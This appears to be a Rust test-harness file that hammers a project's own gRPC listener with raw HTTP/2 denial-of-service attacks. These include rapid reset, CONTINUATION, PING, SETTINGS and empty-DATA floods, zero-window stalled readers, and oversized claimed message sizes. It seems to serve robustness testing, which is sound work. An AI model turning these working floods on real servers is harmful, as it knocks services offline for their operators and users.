//! HTTP/2 as no honest client speaks it, frame by frame, to the gRPC listener.

use std::net::SocketAddr;
use std::time::Duration;

use clearway_proto::packed::pack;
use clearway_proto::v1;
use futures::FutureExt;
use futures::future::join_all;
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::target::{self, Attack};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const WATCH: &str = "/clearway.v1.MapService/Watch";
const LIST: &str = "/clearway.v1.MapService/ListVehicles";
const INGEST: &str = "/clearway.v1.IngestService/Stream";
/// Setting INITIAL_WINDOW_SIZE.
const WINDOW: u16 = 4;
/// Pause before a connection that was cut is opened again.
const AGAIN: Duration = Duration::from_millis(20);

/// Types of frames (RFC 9113, section 6).
mod kind {
    pub const DATA: u8 = 0;
    pub const HEADERS: u8 = 1;
    pub const RST_STREAM: u8 = 3;
    pub const SETTINGS: u8 = 4;
    pub const PING: u8 = 6;
    pub const CONTINUATION: u8 = 9;
}

/// Flags of frames.
mod flag {
    pub const ACK: u8 = 1;
    pub const END_STREAM: u8 = 1;
    pub const END_HEADERS: u8 = 4;
}

/// The attacks of this file.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "gRPC: 256 connections that answer pings", run: |target| answer_pings(target.grpc, 256, 0).boxed() },
    Attack {
        name: "gRPC: 2,000 readers without credits or reading",
        run: |target| answer_pings(target.grpc, 20, 100).boxed(),
    },
    Attack { name: "gRPC: packets behind a window of 0", run: |target| packets(target.grpc).boxed() },
    Attack { name: "gRPC: rapid reset", run: |target| flood(target.grpc, rapid_reset).boxed() },
    Attack { name: "gRPC: flood of CONTINUATION", run: |target| flood(target.grpc, continuations).boxed() },
    Attack { name: "gRPC: flood of empty DATA", run: |target| flood(target.grpc, empty_data).boxed() },
    Attack { name: "gRPC: flood of PING", run: |target| flood(target.grpc, pings).boxed() },
    Attack { name: "gRPC: flood of answers to no PING", run: |target| flood(target.grpc, answers).boxed() },
    Attack { name: "gRPC: flood of unknown frames", run: |target| flood(target.grpc, unknown).boxed() },
    Attack { name: "gRPC: flood of calls", run: |target| flood(target.grpc, calls).boxed() },
    Attack { name: "gRPC: flood of SETTINGS", run: |target| flood(target.grpc, settings).boxed() },
    Attack { name: "gRPC: claimed message sizes", run: |target| flood(target.grpc, claims).boxed() },
];

/// One frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The header block of a gRPC request, without compression (RFC 7541): method POST, scheme http, path, authority.
fn request(path: &str) -> Vec<u8> {
    let text = |bytes: &str| [&[u8::try_from(bytes.len()).expect("short")], bytes.as_bytes()].concat();
    let (path, content_type) = (text(path), [text("content-type"), text("application/grpc")].concat());
    let te = [text("te"), text("trailers")].concat();
    [&[0x83, 0x86, 0x04][..], &path, &[0x01], &text("localhost"), &[0], &content_type, &[0], &te].concat()
}

/// A gRPC message: not compressed, its claimed length, its bytes.
fn message(claimed: u32, bytes: &[u8]) -> Vec<u8> {
    [&[0][..], &claimed.to_be_bytes(), bytes].concat()
}

/// Opens a connection and announces the window of each stream.
async fn connect(at: SocketAddr, window: u32) -> std::io::Result<TcpStream> {
    let mut socket = target::connect(at).await?;
    let window = [&WINDOW.to_be_bytes()[..], &window.to_be_bytes()].concat();
    socket.write_all(&[PREFACE, &frame(kind::SETTINGS, 0, 0, &window)].concat()).await?;
    Ok(socket)
}

/// Keeps this many connections open, each with this many readers that never take a byte: their windows are 0, and the
/// connections answer every ping.
async fn answer_pings(at: SocketAddr, connections: usize, readers: u32) {
    join_all((0..connections).map(|_| async move {
        loop {
            let _cut = answer_pings_of_one(at, readers).await;
            tokio::time::sleep(AGAIN).await;
        }
    }))
    .await;
}

async fn answer_pings_of_one(at: SocketAddr, readers: u32) -> std::io::Result<()> {
    let mut socket = connect(at, 0).await?;
    let selection = v1::Selection { vehicle: "car".into(), ..Default::default() };
    let wanted = v1::WatchRequest { selection: Some(selection), ..Default::default() }.encode_to_vec();
    let wanted = message(u32::try_from(wanted.len()).expect("short"), &wanted);
    for reader in 0..readers {
        let stream = 2 * reader + 1;
        socket.write_all(&frame(kind::HEADERS, flag::END_HEADERS, stream, &request(WATCH))).await?;
        socket.write_all(&frame(kind::DATA, 0, stream, &wanted)).await?;
    }
    answer(socket).await
}

/// Streams of ingest, each with as many packets as fit in one observation, whose reports are never taken.
async fn packets(at: SocketAddr) {
    let packets = v1::Packets { lengths: pack(&[1_u16; 1024]), ..Default::default() };
    let body = Some(v1::observation::Body::Packets(packets));
    let observation =
        v1::Observation { number: 1, vehicle: "car".into(), sensor: "top".into(), body, ..Default::default() };
    let observation = observation.encode_to_vec();
    let observation = message(u32::try_from(observation.len()).expect("short"), &observation);
    loop {
        let _cut = async {
            let mut socket = connect(at, 0).await?;
            for stream in [1, 3, 5] {
                socket.write_all(&frame(kind::HEADERS, flag::END_HEADERS, stream, &request(INGEST))).await?;
                socket.write_all(&frame(kind::DATA, 0, stream, &observation)).await?;
            }
            answer(socket).await
        }
        .await;
        tokio::time::sleep(AGAIN).await;
    }
}

/// Answers pings and settings until the server ends the connection.
async fn answer(mut socket: TcpStream) -> std::io::Result<()> {
    loop {
        let mut head = [0; 9];
        socket.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        socket.read_exact(&mut payload).await?;
        match (head[3], head[4] & flag::ACK) {
            (kind::PING, 0) => socket.write_all(&frame(kind::PING, flag::ACK, 0, &payload)).await?,
            (kind::SETTINGS, 0) => socket.write_all(&frame(kind::SETTINGS, flag::ACK, 0, &[])).await?,
            _ => {}
        }
    }
}

/// Sends what `frames` gives for 0, 1, 2 and so on, as fast as the server takes it, on one connection after another.
async fn flood(at: SocketAddr, frames: fn(u32) -> Vec<u8>) {
    loop {
        if let Ok(socket) = connect(at, 65_535).await {
            let (mut read, mut write) = socket.into_split();
            let send = async {
                for round in 0.. {
                    if write.write_all(&frames(round)).await.is_err() {
                        break;
                    }
                }
            };
            let receive = async {
                let mut rest = vec![0; 1 << 16];
                while read.read(&mut rest).await.is_ok_and(|length| length > 0) {}
            };
            futures::future::select(std::pin::pin!(send), std::pin::pin!(receive)).await;
        }
        tokio::time::sleep(AGAIN).await;
    }
}

fn rapid_reset(round: u32) -> Vec<u8> {
    let stream = 2 * (round % (1 << 30)) + 1;
    let begin = frame(kind::HEADERS, flag::END_HEADERS, stream, &request(WATCH));
    [begin, frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
}

fn continuations(round: u32) -> Vec<u8> {
    match round {
        0 => frame(kind::HEADERS, 0, 1, &request(WATCH)),
        _ => frame(kind::CONTINUATION, 0, 1, &[]),
    }
}

fn empty_data(round: u32) -> Vec<u8> {
    match round {
        0 => frame(kind::HEADERS, flag::END_HEADERS, 1, &request(INGEST)),
        _ => frame(kind::DATA, 0, 1, &[]),
    }
}

fn pings(round: u32) -> Vec<u8> {
    frame(kind::PING, 0, 0, &u64::from(round).to_be_bytes())
}

fn answers(_: u32) -> Vec<u8> {
    frame(kind::PING, flag::ACK, 0, &[0; 8]).repeat(100)
}

/// Frames of an unknown type.
fn unknown(_: u32) -> Vec<u8> {
    frame(77, 0, 0, &[0; 8]).repeat(100)
}

/// Calls that are answered at once, more than may be in progress.
fn calls(round: u32) -> Vec<u8> {
    let stream = 2 * (round % (1 << 30)) + 1;
    let begin = frame(kind::HEADERS, flag::END_HEADERS, stream, &request(LIST));
    [begin, frame(kind::DATA, flag::END_STREAM, stream, &message(0, b""))].concat()
}

fn settings(_: u32) -> Vec<u8> {
    frame(kind::SETTINGS, 0, 0, &[&WINDOW.to_be_bytes()[..], &65_535_u32.to_be_bytes()].concat())
}

/// A stream of ingest whose first message claims 60 MiB, or more than any message may have, and has 5 bytes.
fn claims(round: u32) -> Vec<u8> {
    let stream = 2 * (round % (1 << 30)) + 1;
    let claimed = if round.is_multiple_of(2) { 60 << 20 } else { u32::MAX };
    let begin = frame(kind::HEADERS, flag::END_HEADERS, stream, &request(INGEST));
    [begin, frame(kind::DATA, 0, stream, &message(claimed, b"short"))].concat()
}
